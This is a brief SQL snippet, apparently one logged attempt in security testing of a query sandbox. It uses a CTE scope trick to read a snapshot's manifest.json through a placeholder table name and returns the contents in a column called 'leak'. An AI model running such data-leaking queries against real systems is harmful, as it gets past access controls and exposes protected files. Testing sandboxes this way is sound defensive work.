-- attempts: issue 11: the same CTE scope trick on the snapshot's manifest.json
SELECT d.id_number,
       (SELECT string_agg(CAST(m AS VARCHAR), ' | ') FROM "{MANIFEST}" m) AS leak
FROM deaths d,
     (WITH "{MANIFEST}" AS (SELECT 1) SELECT 1) z
